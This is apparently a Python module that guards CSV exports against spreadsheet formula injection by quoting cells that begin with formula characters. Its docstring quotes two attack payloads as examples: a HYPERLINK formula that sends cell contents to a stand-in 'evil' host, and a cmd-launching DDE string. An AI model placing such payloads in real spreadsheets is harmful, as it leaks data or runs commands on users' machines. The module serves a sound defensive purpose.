"""CSV cells a spreadsheet cannot run as formulas (OWASP "CSV injection"), and CSV text built from them (pure).

An exported cell holds what end users typed (search queries, product names ...). Excel, LibreOffice and
Google Sheets run a cell starting with `=`, `+`, `-` or `@` (or TAB / CR before one) as a formula, so
`=HYPERLINK("http://evil/?"&A1, "click")` in a chat would run in the tenant's spreadsheet. Every text
cell whose first character -- after any leading whitespace or quotes -- is one of those, a fullwidth
or small-form variant (U+FF1D, U+FF20 ...), or a TAB / CR / LF, gets a single quote `'` in front: the
spreadsheet shows the text as typed (plus the quote), and never evaluates it.

Numbers we produce as numbers (ints, floats, Decimals: tokens, costs, ratings) are left as they are,
negative ones included: they are data, not text a user typed. Text that merely looks like a negative
number (`-1`) is still quoted: telling `-1` from `-1+cmd|' /C calc'!A0` is the parser we refuse to be.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from datetime import datetime
from typing import Final

FORMULA_STARTS: Final = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66")
"""First characters that make a spreadsheet read a cell as a formula (ASCII, fullwidth, small forms)."""
_FIRST_MEANINGFUL: Final = re.compile("[\\s\"'\uff02\uff07]*(.)", re.DOTALL)
"""The first character after leading whitespace and quotes (which a spreadsheet may drop)."""


def safe_cell(value: object) -> object:
    """`value` as a CSV cell: text a spreadsheet would run gets a `'` in front; datetimes become ISO 8601
    UTC text (`...Z`); numbers, None and other text pass as they are."""
    if isinstance(value, datetime):
        return value.isoformat().replace("+00:00", "Z")
    if not isinstance(value, str) or not value:
        return value
    first = _FIRST_MEANINGFUL.match(value)
    if value[0] in FORMULA_STARTS or (first is not None and first.group(1) in FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    """Rows as CSV text (RFC 4180 quoting, \\r\\n line ends), every cell through `safe_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return buffer.getvalue()
